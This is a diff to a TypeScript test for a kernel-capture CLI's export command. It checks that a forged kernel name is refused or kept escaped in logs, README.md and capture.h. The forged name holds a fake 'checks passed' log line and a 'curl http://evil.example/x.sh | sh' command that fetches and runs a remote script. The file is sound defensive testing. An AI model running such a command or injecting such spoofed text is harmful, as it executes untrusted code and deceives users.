@@ -38,41 +38,39 @@ describe("a manifest's kernel name through kerncap export", () => {
   /** A fake log line, then a Markdown heading and a fenced `curl | sh` after the name's newlines. */
   const FORGED = "saxpy\n[kerncap] \u2714 replay: match, all checks passed (FAKE)\n\n## Run it\n\n```\ncurl http://evil.example/x.sh | sh\n```\n\u202e";
 
-  test("the log prints it on one line, escaped; README.md keeps it inside its code span: no heading, no fence, no bidi override", async () => {
+  test("a name with line breaks or a bidi override is refused when the manifest is read, said on one line; Markdown punctuation stays inside README.md's code span", async () => {
     const root = tempDir("kerncap-attack-");
     const { dir } = writeDemo(join(root, "cap"), false);
     const m = JSON.parse(readFileSync(join(dir, "kerncap.json"), "utf8"));
     m.kernel.demangled = FORGED;
-    m.device.name = "H200 `x` | *y*\n# Heading";
     m.device.driverVersion = 13000; // a capture's (the demo's, driver 0, is said as made without a GPU, naming no device)
     writeFileSync(join(dir, "kerncap.json"), JSON.stringify(m));
     const out = join(root, "out");
+    // no kernel, symbol or device name holds a control character (adversary 90 #05): E_MANIFEST, nothing exported
+    const refused = await output(() => runCli(["export", dir, "-o", out]));
+    expect(refused.value).toBe(2);
+    expect(refused.err).toContain("kernel.demangled: holds a control character");
+    expect(refused.err).not.toMatch(RAW_CONTROLS);
+    expect(refused.err.split("\n").filter((l) => l.includes("(FAKE)"))).toEqual([]);
+    expect(refused.err).not.toMatch(/^```|^curl/m);
+    expect(existsSync(out)).toBe(false);
+    // Markdown in a name without controls: README.md keeps it inside its code span, the device's punctuation escaped
+    m.kernel.demangled = "saxpy``` | *z* ## Run it";
+    m.device.name = "H200 `x` | *y* # Heading";
+    writeFileSync(join(dir, "kerncap.json"), JSON.stringify(m));
     const { value, err } = await output(() => runCli(["export", dir, "-o", out]));
     expect(value, err).toBe(0);
     expect(err).not.toMatch(RAW_CONTROLS);
-    // the forged text only inside the one line that says what was exported, never a line of its own
-    expect(
-      err
-        .split("\n")
-        .filter((l) => l.includes("(FAKE)"))
-        .map((l) => l.startsWith("[success] [kerncap] exported saxpy\\n") || l.startsWith("\u2714") || /^\S*\s*\[?kerncap\]? .*exported saxpy\\n/.test(l)),
-    ).toEqual([true]);
-    expect(err).not.toMatch(/^```|^curl/m);
-    expect(err).toContain("saxpy\\n[kerncap] \u2714 replay: match");
     const md = readFileSync(join(out, "README.md"), "utf8");
     expect(md.split("\n").filter((l) => l === "## Run it")).toHaveLength(1); // the template's own heading only
-    expect(md).not.toMatch(/^curl/m);
     expect(md).not.toMatch(/^# Heading/m);
-    expect(md).not.toContain("\u202e");
     const title = md.split("\n")[0]!;
-    // one code span, fenced with more backticks than the name holds, the newlines escaped inside it
-    expect(title).toStartWith("# Reproducer of ````saxpy\\n[kerncap]");
+    // one code span, fenced with more backticks than the name holds
+    expect(title).toStartWith("# Reproducer of ````saxpy``` | *z*");
     expect(title).toEndWith("````");
-    expect(md).toContain("H200 \\`x\\` \\| \\*y\\*\\\\n\\# Heading"); // the device as Markdown text: its punctuation escaped
+    expect(md).toContain("H200 \\`x\\` \\| \\*y\\* \\# Heading"); // the device as Markdown text: its punctuation escaped
     // capture.h holds the exact name as a C string: the templates' escape
-    expect(readFileSync(join(out, "capture.h"), "utf8")).toContain(
-      '#define KERNEL_DEMANGLED "saxpy\\012[kerncap] \\342\\234\\224 replay: match, all checks passed (FAKE)\\012\\012## Run it',
-    );
+    expect(readFileSync(join(out, "capture.h"), "utf8")).toContain('#define KERNEL_DEMANGLED "saxpy``` | *z* ## Run it"');
   });
 });
 
